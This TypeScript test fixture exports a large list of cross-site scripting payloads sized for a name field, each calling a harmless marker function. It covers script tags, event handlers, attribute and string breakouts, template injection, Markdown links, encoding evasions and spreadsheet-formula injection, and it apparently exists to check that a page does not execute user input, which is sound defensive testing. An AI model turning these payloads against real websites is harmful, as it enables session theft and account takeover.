/** The function that payloads call; a call means that the page has executed user input. */
export const CALL = '__pwned()';

const C = CALL;

/** A hundred script injections, each short enough for a name field. */
export const PAYLOADS: readonly string[] = [
  // as elements
  ...[
    `<script>${C}</script>`,
    `<SCRIPT>${C}</SCRIPT>`,
    `<script >${C}</script >`,
    `<scr<script>ipt>${C}</script>`,
  ],
  ...[
    `</script><script>${C}</script>`,
    `--></script><script>${C}</script>`,
    `<script src=data:,${C}></script>`,
  ],
  ...[`<script type=module>${C}</script>`, `<script>/*`, `*/${C}//</script>`, `<script\n>${C}</script>`],
  ...[`</title><script>${C}</script>`, `</textarea><script>${C}</script>`, `</style><script>${C}</script>`],
  ...[
    `</noscript><script>${C}</script>`,
    `<!--<script>${C}</script>-->`,
    `<![CDATA[<script>${C}</script>]]>`,
  ],
  ...[
    `<img src=x onerror=${C}>`,
    `<IMG SRC=x ONERROR=${C}>`,
    `<img/src=x/onerror=${C}>`,
    `<img src onerror=${C}>`,
  ],
  ...[`<img src=x onerror="${C}"//`, `<img\tsrc=x\tonerror=${C}>`, `<img src=x:x onerror=${C}>`],
  ...[`<image src=x onerror=${C}>`, `<img srcset=x onerror=${C}>`, `<picture><img src=x onerror=${C}>`],
  ...[
    `<svg onload=${C}>`,
    `<svg/onload=${C}>`,
    `<svg><script>${C}</script></svg>`,
    `<svg><g onload=${C}></svg>`,
  ],
  ...[`<svg><animate onbegin=${C} attributeName=x>`, `<svg><set onbegin=${C} attributeName=x>`],
  ...[`<svg><a xlink:href=javascript:${C}><text y=9>x`, `<svg><use href="data:image/svg+xml,${C}">`],
  ...[`<math><mi href=javascript:${C}>x</mi></math>`, `<math><mtext><img src=x onerror=${C}>`],
  ...[`<body onload=${C}>`, `<body onpageshow=${C}>`, `<html onmouseover=${C}>`, `<frameset onload=${C}>`],
  ...[
    `<iframe src=javascript:${C}>`,
    `<iframe srcdoc="<script>parent.${C}</script>">`,
    `<iframe onload=${C}>`,
  ],
  ...[`<object data=javascript:${C}>`, `<object onerror=${C} data=x>`, `<embed src=javascript:${C}>`],
  ...[`<video src=x onerror=${C}>`, `<video><source onerror=${C}>`, `<audio src=x onerror=${C}>`],
  ...[
    `<track onerror=${C} src=x default>`,
    `<input onfocus=${C} autofocus>`,
    `<select onfocus=${C} autofocus>`,
  ],
  ...[
    `<textarea onfocus=${C} autofocus>`,
    `<button onfocus=${C} autofocus>`,
    `<keygen onfocus=${C} autofocus>`,
  ],
  ...[
    `<details open ontoggle=${C}>`,
    `<marquee onstart=${C}>`,
    `<p style="animation:x" onanimationstart=${C}>`,
  ],
  ...[`<style onload=${C}>`, `<link rel=stylesheet href=/x onerror=${C}>`, `<link rel=import href=data:,x>`],
  ...[`<meta http-equiv=refresh content="0;url=javascript:${C}">`, `<base href=javascript:/a/+${C}//>`],
  ...[
    `<form action=javascript:${C}><button>x`,
    `<form><button formaction=javascript:${C}>x`,
    `<isindex type=image>`,
  ],
  ...[
    `<template><script>${C}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${C}>">`,
  ],
  ...[
    `<a href=javascript:${C}>x</a>`,
    `<a href=" javascript:${C}">x</a>`,
    `<a href=java&#10;script:${C}>x</a>`,
  ],
  ...[
    `<a href=data:text/html,${C}>x</a>`,
    `<a href=vbscript:${C}>x</a>`,
    `<x onclick=${C} tabindex=0 autofocus>`,
  ],
  // breaking out of an attribute, a string, a comment or a cell
  ...[
    `" onmouseover=${C} x="`,
    `' onmouseover=${C} x='`,
    `" autofocus onfocus=${C} x="`,
    `\` onerror=${C} x=\``,
  ],
  ...[
    `"><img src=x onerror=${C}>`,
    `'><img src=x onerror=${C}>`,
    `"><svg/onload=${C}>`,
    `\\"><script>${C}</script>`,
  ],
  ...[
    `";${C};//`,
    `';${C};//`,
    `\`;${C};//`,
    `\${${C}}`,
    `{{constructor.constructor('${C}')()}}`,
    `<%= ${C} %>`,
  ],
  ...[`javascript:${C}`, `JaVaScRiPt:${C}`, `data:text/html,<script>${C}</script>`, `0;url=javascript:${C}`],
  // in Markdown
  ...[`[x](javascript:${C})`, `![x](x"onerror="${C})`, `<javascript:${C}>`, `[x](<java\tscript:${C}>)`],
  ...[
    `[x]: javascript:${C}`,
    `\`<script>${C}</script>\``,
    `| <script>${C}</script> |`,
    `> <svg onload=${C}>`,
  ],
  // in plain text
  ...[
    `&lt;script&gt;${C}&lt;/script&gt;`,
    `\\u003cscript\\u003e${C}`,
    `%3Cscript%3E${C}%3C/script%3E`,
    `＜script＞${C}`,
  ],
  ...[
    `<ſcript>${C}</ſcript>`,
    `=HYPERLINK("javascript:${C}")`,
    `@SUM(1)<svg onload=${C}>`,
    `+<b onclick=${C}>`,
  ],
];
